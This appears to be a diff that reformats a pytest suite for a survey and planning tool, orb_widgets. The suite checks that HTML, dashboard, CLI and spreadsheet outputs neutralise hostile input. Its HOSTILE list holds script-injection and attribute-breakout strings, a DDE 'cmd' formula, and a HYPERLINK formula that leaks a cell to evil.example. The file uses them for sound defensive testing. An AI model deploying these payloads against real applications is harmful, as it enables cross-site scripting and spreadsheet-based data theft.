@@ -5,6 +5,7 @@ and the survey path (``store.add_responses``); then the packets (HTML and
 PDF), the statewide index and every export are built, and read back the way
 a browser (``html.parser``) and a spreadsheet (``csv``, openpyxl) read them.
 """
+
 import csv
 import datetime as dt
 import io
@@ -15,19 +16,31 @@ import openpyxl
 import pytest
 
 from orb_widgets import packets, webinar, workbook
+from orb_widgets.app import App
 from orb_widgets.cli import main
 from orb_widgets.exports import spreadsheet_safe, table_bytes
 from orb_widgets.instrument import tailor
 from orb_widgets.paths import unique_slug
-from orb_widgets.app import App
 from orb_widgets.store import NewResponse
 
 SCRIPT = "<script>alert(1)</script>"
 BREAKER = '"><img src=x onerror=alert(1)>'
 TITLE = 'Plan"><script>alert(1)</script><b x="'
-HOSTILE = [SCRIPT, BREAKER, TITLE, '=HYPERLINK("http://evil.example/?x="&A1, "open")', "=cmd|' /C calc'!A0",
-           "@SUM(1)", "+1", "-1+2", "\t=1+2", "\r=1+2", "lone \ud800 surrogate", "$x^2$ {{7*7}} & </td></table>"]
-LONG = ("=1+1 " + SCRIPT + " ") * 300   # ~9,000 characters
+HOSTILE = [
+    SCRIPT,
+    BREAKER,
+    TITLE,
+    '=HYPERLINK("http://evil.example/?x="&A1, "open")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "+1",
+    "-1+2",
+    "\t=1+2",
+    "\r=1+2",
+    "lone \ud800 surrogate",
+    "$x^2$ {{7*7}} & </td></table>",
+]
+LONG = ("=1+1 " + SCRIPT + " ") * 300  # ~9,000 characters
 COUNTY = 'Hostile "><img src=x onerror=alert(2)> County'
 
 
@@ -47,43 +60,115 @@ def ws(tmp_path_factory):
     inst = tailor("cpm-orb", county=COUNTY, elements=["A", "B"], points=5, min_group=5)
     store.save_instrument(inst)
     roles = [r.id for r in inst.roles]
-    clean = [t for t in HOSTILE if "\ud800" not in t]   # the store cannot take a lone surrogate yet (see below)
-    store.add_responses(COUNTY, "2026-spring", [
-        NewResponse(role=roles[k % len(roles)], answers={i.id: 1 + k % 5 for i in inst.items},
-                    comments={"A": clean[k % len(clean)], "B": LONG}) for k in range(12)],
-        instrument=inst, source="test")
+    clean = [t for t in HOSTILE if "\ud800" not in t]  # the store cannot take a lone surrogate yet (see below)
+    store.add_responses(
+        COUNTY,
+        "2026-spring",
+        [
+            NewResponse(
+                role=roles[k % len(roles)],
+                answers={i.id: 1 + k % 5 for i in inst.items},
+                comments={"A": clean[k % len(clean)], "B": LONG},
+            )
+            for k in range(12)
+        ],
+        instrument=inst,
+        source="test",
+    )
 
     def save(kind, key, body):
         workbook.save(store, COUNTY, kind, key, body, user=BREAKER)
 
     n = iter(range(1000))
     # the coach's webinar: every room holds one of the county's people, so the packet shows each room
-    event = webinar.new_event(store, short(next(n)), dt.date(2026, 3, 2), BREAKER, prompts=HOSTILE[:3],
-                              rooms=len(HOSTILE))
+    event = webinar.new_event(
+        store, short(next(n)), dt.date(2026, 3, 2), BREAKER, prompts=HOSTILE[:3], rooms=len(HOSTILE)
+    )
     for k in range(len(HOSTILE)):
-        webinar.save_room(store, event, k, {
-            "event": event, "name": HOSTILE[k], "facilitator": short(next(n)), "reporter": short(next(n)),
-            "notes": {1: text(next(n)), 2: text(next(n))}, "takeaway": text(next(n)),
-            "people": [{"name": short(next(n)), "county": COUNTY, "role": short(next(n)),
-                        "steps": [text(next(n)), text(next(n))]}]}, BREAKER)
-    save("key_message", "m1", {"title": TITLE, "versions": [{"version": 1, "text": text(next(n))}],
-                               "tests": [{"version": 1, "audience": short(next(n)), "event": short(next(n)),
-                                          "people": 4, "ratings": {short(next(n)): 4}, "feedback": text(next(n))}
-                                         for _ in range(4)]})
+        webinar.save_room(
+            store,
+            event,
+            k,
+            {
+                "event": event,
+                "name": HOSTILE[k],
+                "facilitator": short(next(n)),
+                "reporter": short(next(n)),
+                "notes": {1: text(next(n)), 2: text(next(n))},
+                "takeaway": text(next(n)),
+                "people": [
+                    {
+                        "name": short(next(n)),
+                        "county": COUNTY,
+                        "role": short(next(n)),
+                        "steps": [text(next(n)), text(next(n))],
+                    }
+                ],
+            },
+            BREAKER,
+        )
+    save(
+        "key_message",
+        "m1",
+        {
+            "title": TITLE,
+            "versions": [{"version": 1, "text": text(next(n))}],
+            "tests": [
+                {
+                    "version": 1,
+                    "audience": short(next(n)),
+                    "event": short(next(n)),
+                    "people": 4,
+                    "ratings": {short(next(n)): 4},
+                    "feedback": text(next(n)),
+                }
+                for _ in range(4)
+            ],
+        },
+    )
     for target in ["A", "B", "component:1"]:
-        save("matrix_row", target, {"target": target, "what_we_learned": text(next(n)),
-                                    "why_it_matters": text(next(n)), "next_steps": [short(next(n)), text(next(n))],
-                                    "who": short(next(n)), "support_needed": text(next(n)),
-                                    "how_we_will_know": text(next(n)), "by_when": "2026-06-01"})
-    save("testing_profile", "main", {"buddy_county": short(next(n)),
-                                     "sections": {"a": text(next(n)), short(next(n)): text(next(n))},
-                                     "buddy": {"i": text(next(n)), short(next(n)): text(next(n))}})
-    save("plan", "main", {"vision": text(next(n)), "goals": [text(next(n)) for _ in range(3)],
-                          "effect_measures": [short(next(n))],
-                          "activities": [{"what": text(next(n)), "who": short(next(n))} for _ in range(3)],
-                          "competence": {short(next(n)): {"now": 0.2, "target": 0.5}}})
-    save("followup", dt.date(2026, 4, 1).isoformat(), {"date": "2026-04-01", **{
-        k: [text(next(n)), short(next(n))] for k in ("keep", "improve", "start", "stop", "carried")}})
+        save(
+            "matrix_row",
+            target,
+            {
+                "target": target,
+                "what_we_learned": text(next(n)),
+                "why_it_matters": text(next(n)),
+                "next_steps": [short(next(n)), text(next(n))],
+                "who": short(next(n)),
+                "support_needed": text(next(n)),
+                "how_we_will_know": text(next(n)),
+                "by_when": "2026-06-01",
+            },
+        )
+    save(
+        "testing_profile",
+        "main",
+        {
+            "buddy_county": short(next(n)),
+            "sections": {"a": text(next(n)), short(next(n)): text(next(n))},
+            "buddy": {"i": text(next(n)), short(next(n)): text(next(n))},
+        },
+    )
+    save(
+        "plan",
+        "main",
+        {
+            "vision": text(next(n)),
+            "goals": [text(next(n)) for _ in range(3)],
+            "effect_measures": [short(next(n))],
+            "activities": [{"what": text(next(n)), "who": short(next(n))} for _ in range(3)],
+            "competence": {short(next(n)): {"now": 0.2, "target": 0.5}},
+        },
+    )
+    save(
+        "followup",
+        dt.date(2026, 4, 1).isoformat(),
+        {
+            "date": "2026-04-01",
+            **{k: [text(next(n)), short(next(n))] for k in ("keep", "improve", "start", "stop", "carried")},
+        },
+    )
     return {"folder": folder, "store": store, "event": event}
 
 
@@ -120,9 +205,13 @@ def test_workbook_stores_a_lone_surrogate_as_a_replacement_character(ws):
 
 def test_survey_comment_with_a_lone_surrogate_is_stored(ws):
     inst = ws["store"].current_instrument(COUNTY)
-    ws["store"].add_responses(COUNTY, "2026-fall", [NewResponse(role=inst.roles[0].id, answers={},
-                                                                comments={"A": "broken \ud800 emoji"})],
-                              instrument=inst, source="test")
+    ws["store"].add_responses(
+        COUNTY,
+        "2026-fall",
+        [NewResponse(role=inst.roles[0].id, answers={}, comments={"A": "broken \ud800 emoji"})],
+        instrument=inst,
+        source="test",
+    )
 
 
 def test_packets_and_index_run_no_hostile_text(ws, tmp_path):
@@ -177,7 +266,7 @@ def test_exports_hold_no_live_formula(ws, tmp_path, capsys):
         assert main(["plan", "--workspace", str(ws["folder"]), "--county", COUNTY, "--out", str(path)]) == 0
         cells = read(path.read_bytes())
         assert formula_cells(cells) == []
-        assert any(str(c).startswith(("'=", "'@", "'+")) for c in cells)   # kept as typed, made inert
+        assert any(str(c).startswith(("'=", "'@", "'+")) for c in cells)  # kept as typed, made inert
     # the coach's webinar exports are checked in test_webinar.py
 
 
@@ -200,7 +289,7 @@ def test_command_line_text_is_inert(ws, capsys):
         out = capsys.readouterr().out
         assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", out), cmd
         assert max(len(line) for line in out.splitlines()) <= 100, cmd
-        assert "&lt;" not in out and "&#" not in out        # plain text, not escaped HTML
+        assert "&lt;" not in out and "&#" not in out  # plain text, not escaped HTML
         assert COUNTY.split()[0] in out
     assert "<script>alert(1)</script>" in out.replace("\n", "")  # the matrix's words, as typed
 
@@ -210,11 +299,11 @@ def test_served_dashboard_is_inert(ws):
     from orb_widgets.widgets.results import ResultsDashboard
 
     page = ResultsDashboard(WorkbookContext(ws["store"], COUNTY, user=BREAKER, remember=False))
-    page.wave.value = "2026-spring"   # the wave with the hostile comments (a later test may add another)
+    page.wave.value = "2026-spring"  # the wave with the hostile comments (a later test may add another)
     for index in range(len(page.tabs.children)):  # each tab is filled when it is opened
         page.tabs.selected_index = index
     assert page.results is not None and page.results.county == COUNTY and not page.results.suppressed
     for part in (page.headline, page.overview, page.priorities, page.roles, page.over_time, page.detail):
         parsed = Page(part.value)
         assert parsed.live == [], parsed.live
-    assert SCRIPT in "".join(Page(page.detail.value).text)   # a comment, shown as words
+    assert SCRIPT in "".join(Page(page.detail.value).text)  # a comment, shown as words
